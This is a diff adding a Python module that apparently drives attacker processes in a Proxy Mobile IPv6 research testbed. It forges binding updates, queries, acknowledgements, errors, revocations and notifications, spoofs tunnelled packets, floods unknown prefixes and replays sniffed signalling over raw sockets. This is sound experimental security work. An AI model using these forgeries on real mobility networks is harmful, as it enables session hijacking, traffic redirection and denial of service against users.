@@ -1,0 +1,307 @@
+"""Attacks as processes of their own: what an attacker makes, octet by octet, and how it sends that (docs/security.md).
+
+Every packet of an attack bears the attack's mark in its IPv6 traffic class and flow label, which nothing in the network looks at and by
+which captures tell it from all others, whose traffic class is 0.
+"""
+
+from __future__ import annotations
+
+import socket
+import struct
+import time
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass
+from functools import partial
+from ipaddress import IPv6Address, IPv6Network
+from itertools import cycle
+
+from agents.config import HOME_NETWORK, QueryFlag
+from agents.messages import (
+    PROTOCOL,
+    AccessTechnologyType,
+    BindingError,
+    BindingErrorStatus,
+    BindingRevocationIndication,
+    HandoffIndicator,
+    Message,
+    NotificationReason,
+    ProxyBindingAcknowledgement,
+    ProxyBindingUpdate,
+    RevocationTrigger,
+    UpdateNotification,
+    encode,
+    ipv6_packet,
+    timestamp_from_seconds,
+)
+from experiments.agents import Agents
+from experiments.scenario import Attack, Run
+from experiments.settings import agent_settings
+from topologies.addresses import ALL_MAGS_MAC, INFRASTRUCTURE, mac
+from topologies.build import Testbed
+from topologies.domain import Agent, Host
+
+STRANGER = INFRASTRUCTURE[0xBAD]
+"""The address of an attacker in the core, which no node has."""
+
+LEAD = 0.5
+"""How long before the scenario's zero an attacker is there, in s: it has heard all signalling since."""
+
+MARK = 0x0FFFFFFF
+"""The bits of an IPv6 header's first word that are its traffic class and its flow label."""
+
+MARKS = 0x0FFFF000
+"""Those of them that all marks have in common."""
+
+_MARK = 0x04A70000
+_VERSION = 6 << 28
+_IPV6_HEADER = 40
+_ETHERNET_HEADER = 14
+_ETH_P_IPV6, _ETH_P_ALL = 0x86DD, 3
+_IPV6_IN_IPV6, _NO_NEXT_HEADER = 41, 59
+_LIFETIME = 75
+_LARGEST_FRAME = 2048
+_FIRST_UNKNOWN_PREFIX = 0x10000
+_ROGUE_MAC = mac(3, 1)
+
+
+def mark(number: int) -> int:
+    """The mark of the packets of a run's ``number``-th attack."""
+    return _MARK + number
+
+
+@dataclass(frozen=True, slots=True)
+class Forgery:
+    """What an attacker knows when it makes a packet.
+
+    Attributes:
+        source: the address that it sends from, or pretends to.
+        agent: where it sends to.
+        host: whose session it is to harm.
+        hoa: that host's address.
+        home: another host's address, from which packets for the first are to seem to come.
+        accomplice: the MAG to which the session is to go.
+        number: counted from 0.
+        now: s since 1970.
+    """
+
+    source: IPv6Address
+    agent: IPv6Address
+    host: Host
+    hoa: IPv6Address
+    home: IPv6Address
+    accomplice: IPv6Address
+    number: int
+    now: float
+
+
+def _update(forgery: Forgery) -> Message:
+    return ProxyBindingUpdate(
+        sequence=forgery.number,
+        lifetime=_LIFETIME,
+        mn_id=forgery.host.mn_id,
+        home_network_prefixes=(forgery.host.home_network_prefix,),
+        handoff_indicator=HandoffIndicator.BETWEEN_MAGS,
+        access_technology=AccessTechnologyType.WIRELESS_LAN,
+        link_layer_identifier=bytes.fromhex(forgery.host.mac.replace(":", "")),
+        timestamp=timestamp_from_seconds(forgery.now),
+        alternate_care_of=forgery.accomplice,
+    )
+
+
+def _query(forgery: Forgery) -> Message:
+    return ProxyBindingUpdate(
+        sequence=forgery.number,
+        lifetime=2,
+        query=True,
+        home_network_prefixes=(IPv6Network(forgery.hoa),),
+        timestamp=timestamp_from_seconds(forgery.now),
+    )
+
+
+def _answer(forgery: Forgery) -> Message:
+    return ProxyBindingAcknowledgement(
+        status=0,
+        sequence=forgery.number,
+        lifetime=_LIFETIME,
+        query=True,
+        home_network_prefixes=(forgery.host.home_network_prefix,),
+        timestamp=timestamp_from_seconds(forgery.now),
+        alternate_care_of=forgery.accomplice,
+    )
+
+
+def _error(forgery: Forgery) -> Message:
+    return BindingError(status=BindingErrorStatus.UNKNOWN_BINDING, home_address=forgery.hoa)
+
+
+def _revocation(forgery: Forgery) -> Message:
+    return BindingRevocationIndication(
+        sequence=forgery.number,
+        trigger=RevocationTrigger.ADMINISTRATIVE_REASON,
+        mn_id=forgery.host.mn_id,
+        home_network_prefixes=(forgery.host.home_network_prefix,),
+        timestamp=timestamp_from_seconds(forgery.now),
+    )
+
+
+def _notification(forgery: Forgery) -> Message:
+    return UpdateNotification(
+        sequence=forgery.number,
+        notification_reason=NotificationReason.UPDATE_SESSION_PARAMETERS,
+        acknowledge=True,
+        mn_id=forgery.host.mn_id,
+        home_network_prefixes=(forgery.host.home_network_prefix,),
+        timestamp=timestamp_from_seconds(forgery.now),
+        alternate_care_of=forgery.accomplice,
+    )
+
+
+MESSAGES: Mapping[str, Callable[[Forgery], Message]] = {
+    "PBU": _update,
+    "PBQ": _query,
+    "PQA": _answer,
+    "BE": _error,
+    "BRI": _revocation,
+    "UPN": _notification,
+}
+"""Kind of message to the one that would do harm: a session or its packets go to the accomplice, or its binding ends."""
+
+
+def _signalling(kind: str, flag: QueryFlag, forgery: Forgery) -> bytes:
+    return ipv6_packet(encode(MESSAGES[kind](forgery), flag), forgery.source, forgery.agent)
+
+
+def _tunnelled(forgery: Forgery) -> bytes:
+    inner = _packet(_NO_NEXT_HEADER, forgery.home, forgery.hoa, b"")
+    return _packet(_IPV6_IN_IPV6, forgery.source, forgery.agent, inner)
+
+
+def _unknown(forgery: Forgery) -> bytes:
+    prefix = int(HOME_NETWORK.network_address) + (_FIRST_UNKNOWN_PREFIX + forgery.number << 64)
+    return _packet(_NO_NEXT_HEADER, forgery.source, IPv6Address(prefix + 1), b"")
+
+
+FLOOD, REPLAY = "flood", "replay"
+
+FORGERIES: Mapping[str, Callable[[QueryFlag, Forgery], bytes]] = {
+    **{kind: partial(_signalling, kind) for kind in MESSAGES},
+    "tunnel": lambda flag, forgery: _tunnelled(forgery),
+    FLOOD: lambda flag, forgery: _unknown(forgery),
+}
+"""Kind of attack to the octets of its next packet."""
+
+KINDS = (*FORGERIES, REPLAY)
+"""The kinds of attack: messages by their names; ``tunnel``: a packet for the victim that another host seems to have sent; ``flood``:
+packets for ever new home addresses; ``replay``: signalling that was heard."""
+
+
+def marked(packet: bytes, label: int) -> bytes:
+    """An IPv6 packet, and one that is inside it, with the mark ``label``."""
+    (first,) = struct.unpack_from("!I", packet)
+    payload = packet[_IPV6_HEADER:]
+    if packet[6] == _IPV6_IN_IPV6:
+        payload = marked(payload, label)
+    return struct.pack("!I", first & ~MARK | label) + packet[4:_IPV6_HEADER] + payload
+
+
+def _is_marked(packet: bytes) -> bool:
+    return int.from_bytes(packet[:4], "big") & MARKS == _MARK
+
+
+def _packet(following: int, source: IPv6Address, destination: IPv6Address, payload: bytes) -> bytes:
+    return struct.pack("!IHBB", _VERSION, len(payload), following, 64) + source.packed + destination.packed + payload
+
+
+def calls(attack: Attack, run: Run, testbed: Testbed, agents: Agents) -> Iterator[tuple[float, Callable[[], object]]]:
+    """An attack of an agent that the run's scheme does not use is none."""
+    if all(node in agents for node in attack.on):
+        yield -LEAD, partial(_begin, attack, run, testbed)
+
+
+def _begin(attack: Attack, run: Run, testbed: Testbed) -> None:
+    node = testbed.get(attack.attacker)
+    label = mark(run.attacks.index(attack))
+    if attack.kind == REPLAY:
+        node.spawn(partial(_replay, attack, run.epoch, label))
+        return
+    forge = partial(FORGERIES[attack.kind], agent_settings({**run.settings, **run.case.settings}).query_flag)
+    known = _Knowledge(attack, run, testbed)
+    node.spawn(partial(_assail, attack, run.epoch, label, lambda number: forge(known.at(number, time.time())), known))
+
+
+class _Knowledge:
+    """What an attack's packets are made of, and how they are sent."""
+
+    def __init__(self, attack: Attack, run: Run, testbed: Testbed) -> None:
+        hosts = {host.name: host for host in run.domain.hosts}
+        known = {agent.name: agent for agent in (*run.domain.mags, *([run.domain.lma] if run.domain.lma else []))}
+        self.host = hosts[attack.victim]
+        self.hoa = testbed.addresses(attack.victim)[0]
+        other = next(name for name in hosts if name not in (attack.victim, attack.attacker))
+        self.home = testbed.addresses(other)[0]
+        self.accomplice = _accomplice(attack, run, known, self.host).address
+        self.agent = known[attack.target].address
+        if attack.attacker in hosts:
+            self.device, self.station = hosts[attack.attacker].interface, hosts[attack.attacker].mac
+            self.gateway, own = ALL_MAGS_MAC, testbed.addresses(attack.attacker)[0]
+        else:
+            self.device, self.station, own = attack.attacker, _ROGUE_MAC, STRANGER
+            self.gateway = str(testbed.get(attack.target).intf(known[attack.target].core).MAC())
+        self.source = known[attack.claims].address if attack.claims else own
+
+    def at(self, number: int, now: float) -> Forgery:
+        """For the ``number``-th packet."""
+        return Forgery(self.source, self.agent, self.host, self.hoa, self.home, self.accomplice, number, now)
+
+
+def _accomplice(attack: Attack, run: Run, known: Mapping[str, Agent], victim: Host) -> Agent:
+    if attack.claims and known[attack.claims] in run.domain.mags:
+        return known[attack.claims]
+    return next(mag for mag in reversed(run.domain.mags) if mag.name != victim.mag)
+
+
+def _assail(attack: Attack, epoch: int, label: int, forge: Callable[[int], bytes], known: _Knowledge) -> None:
+    header = _ethernet(known.gateway, known.station)
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
+        sock.bind((known.device, 0))
+        for number in _times(attack, epoch):
+            sock.send(header + marked(forge(number), label))
+
+
+def _replay(attack: Attack, epoch: int, label: int) -> None:
+    """Hear what crosses the bridge until the attack begins, then send that again, in its order, and from the beginning once it ends."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as sock:
+        heard = tuple(dict.fromkeys(_signals_heard(sock, epoch + round(attack.at * 1e9))))
+        if not heard:
+            raise RuntimeError(f"{attack.attacker} has heard no signalling that it could replay at {attack.at:g} s")
+        again = cycle(heard)
+        for _ in _times(attack, epoch):
+            frame = next(again)
+            sock.sendto(frame[:_ETHERNET_HEADER] + marked(frame[_ETHERNET_HEADER:], label), (attack.attacker, 0))
+
+
+def _signals_heard(sock: socket.socket, until: int) -> Iterator[bytes]:
+    """Every frame with a Mobility Header, tunnelled or not, that passes before ``until``, as often as it is seen."""
+    while (left := until - time.time_ns()) > 0:
+        sock.settimeout(left / 1e9)
+        try:
+            frame, (_, protocol, *_) = sock.recvfrom(_LARGEST_FRAME)
+        except TimeoutError:
+            return
+        at = _ETHERNET_HEADER
+        if protocol == _ETH_P_IPV6 and frame[at + 6] == _IPV6_IN_IPV6:
+            at += _IPV6_HEADER
+        if protocol == _ETH_P_IPV6 and frame[at + 6] == PROTOCOL and not _is_marked(frame[_ETHERNET_HEADER:]):
+            yield frame
+
+
+def _ethernet(destination: str, source: str) -> bytes:
+    return bytes.fromhex((destination + source).replace(":", "")) + _ETH_P_IPV6.to_bytes(2, "big")
+
+
+def _times(attack: Attack, epoch: int) -> Iterator[int]:
+    """The numbers of the attack's packets, each at its time."""
+    first, interval = epoch + round(attack.at * 1e9), 1e9 / attack.rate
+    for number in range(attack.count):
+        time.sleep(max(0, first + round(number * interval) - time.time_ns()) / 1e9)
+        yield number
